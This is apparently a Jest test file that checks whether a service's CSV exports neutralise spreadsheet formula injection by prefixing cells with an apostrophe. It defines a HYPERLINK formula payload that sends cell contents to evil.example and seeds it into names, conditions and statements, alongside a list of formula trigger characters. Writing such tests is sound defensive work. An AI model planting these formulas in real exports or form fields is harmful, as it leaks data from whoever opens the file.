import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { asCaller, call, createService, NOT_CHILD_DIRECTED, OPERATOR_ENV, orgPath, saveAnswer, startAssessment } from './support/assessment-fixtures';
import { seedEntries } from './support/register-fixtures';
import { decide, monitoringBody, openReview, recordFindings, registerEntryOfService, type Team } from './support/review-fixtures';
import { createTestApp, type Actor, type TestApp } from './support/test-app';
import { submittedAssessment } from './support/verification-fixtures';

/** What a spreadsheet reads as the start of a formula (OWASP), the four signs also in their full-width forms. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const FORMULA_START = /^[=+\-@\t\r\n＝＋－＠]/;
const PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"click")';

type Row = Record<string, string>;
const rowsOf = (text: string) => parse(text, { columns: true }) as Row[];

/** No cell of any row starts like a formula; a neutralised one starts with an apostrophe instead. */
function expectNoFormula(rows: Row[]): void {
  const formulas = rows.flatMap((row) => Object.entries(row).filter(([, cell]) => FORMULA_START.test(cell)));
  expect(formulas).toEqual([]);
}

/**
 * Every CSV the service writes, fed text that starts like a spreadsheet formula: each such cell comes
 * out with a leading apostrophe and otherwise as it was typed.
 */
describe('formulas in the CSV files', () => {
  let t: TestApp;
  let provider: Actor;
  let team: Team;
  let realId: string;
  const anonymous = () => request(t.server);

  beforeAll(async () => {
    t = await createTestApp({ ...OPERATOR_ENV, EXPIRY_JOB_SECONDS: '0', NOTIFICATION_POLL_SECONDS: '0' });
    // Through the API, as a provider and a monitoring body would name themselves and write their texts.
    provider = await t.signUp({ organization: `=${PAYLOAD}` });
    team = await monitoringBody(t, `@Monitoring ${PAYLOAD}`);
    const submitted = await submittedAssessment(t, provider, team.monitor, { targetLevel: 2, serviceName: `+${PAYLOAD}` });
    await openReview(t, team, submitted.assessment.id);
    await recordFindings(t, team, submitted.assessment.id);
    await decide(t, team, submitted.assessment.id, { conditions: `-${PAYLOAD}`, publicSummary: `@${PAYLOAD}` });
    realId = (await registerEntryOfService(t, submitted.serviceId))!.id;
    // A whole verification through the API: longer than Jest's default on the embedded database.
  }, 90_000);

  afterAll(async () => {
    await t?.close();
  });

  describe('the register', () => {
    it('neutralises the names, conditions and summary that reached it through the API', async () => {
      const rows = rowsOf((await anonymous().get('/api/v1/register.csv').expect(200)).text);
      expect(rows.find((row) => row.id === realId)).toMatchObject({
        provider: `'=${PAYLOAD}`,
        service: `'+${PAYLOAD}`,
        monitoring_body: `'@Monitoring ${PAYLOAD}`,
        conditions: `'-${PAYLOAD}`,
        public_summary: `'@${PAYLOAD}`,
      });
      expectNoFormula(rows);
    });

    it.each(TRIGGERS)('neutralises provider, service, conditions and summary starting with %j', async (trigger) => {
      const entry = { provider: `${trigger}Provider ${PAYLOAD}`, service: `${trigger}Service ${PAYLOAD}`, summary: `${trigger}Summary ${PAYLOAD}` };
      const [id] = await seedEntries(t, realId, [entry]);
      const others = { conditions: `${trigger}Conditions ${PAYLOAD}`, body: `${trigger}Body ${PAYLOAD}`, title: `${trigger}Code ${PAYLOAD}` };
      await t.sql(`UPDATE register_entries SET conditions = $2, monitoring_body_name = $3, code_title = $4 WHERE id = $1`, [id, others.conditions, others.body, others.title]);
      const rows = rowsOf((await anonymous().get('/api/v1/register.csv').expect(200)).text);
      expect(rows.find((row) => row.id === id)).toMatchObject({
        provider: `'${entry.provider}`,
        service: `'${entry.service}`,
        conditions: `'${others.conditions}`,
        public_summary: `'${entry.summary}`,
        monitoring_body: `'${others.body}`,
        code_title: `'${others.title}`,
      });
      expectNoFormula(rows);
    });

    it('keeps the other cells as they were: the header, ids, dates, numbers and the address', async () => {
      const text = (await anonymous().get('/api/v1/register.csv').expect(200)).text;
      expect(text.split('\r\n')[0]).toBe(
        'id,verification_id,status,level,provider,provider_country,service,code,code_title,code_version,monitoring_body,first_verified_at,decided_at,valid_until,conditions,public_summary,evidence_count,evidence_merkle_root,url',
      );
      const real = rowsOf(text).find((row) => row.id === realId)!;
      expect(real).toMatchObject({ status: 'verified', level: '2', evidence_count: '1', url: expect.stringMatching(new RegExp(`/register/${realId}$`)) });
      expect(real.decided_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    });
  });

  it("neutralises the monitoring body's statistics, whose cells are dates, labels and numbers", async () => {
    const response = await call(t, team.admin, 'get', `${orgPath(team.monitor.organization.slug)}/reports.csv`).expect(200);
    const rows = rowsOf(response.text);
    expect(rows.find((row) => row.metric === 'decisions' && row.breakdown === 'outcome=verified')).toMatchObject({ value: '1' });
    expectNoFormula(rows);
  });

  it("neutralises an assessment's statements and justifications", async () => {
    const who = asCaller(provider);
    const slug = provider.organization.slug;
    const service = await createService(t, who, slug, NOT_CHILD_DIRECTED, `-Exported ${PAYLOAD}`);
    const assessment = await startAssessment(t, who, slug, { serviceId: service.id, monitoringBody: team.monitor.organization.slug });
    const texts = TRIGGERS.map((trigger) => `${trigger}Statement ${PAYLOAD}`);
    for (const [index, text] of texts.entries()) {
      const key = assessment.answers[index].requirementKey;
      await saveAnswer(t, who, slug, assessment.id, key, 1, { claim: 'not_applicable', statement: 'Replaced below.', justification: 'Replaced below.' });
      // Straight into the table: the API trims the spaces, tabs and line breaks around a statement.
      await t.sql(`UPDATE answers SET statement = $3, justification = $4 WHERE assessment_id = $1 AND requirement_key = $2`, [assessment.id, key, text, `'${text}`]);
    }
    const rows = rowsOf((await call(t, who, 'get', `${orgPath(slug)}/assessments/${assessment.id}/export.csv`).expect(200)).text);
    for (const [index, text] of texts.entries()) {
      // Text that already starts with an apostrophe and a formula sign gets a second one.
      expect(rows[index]).toMatchObject({ statement: `'${text}`, justification: `''${text}` });
    }
    expectNoFormula(rows);
  });
});
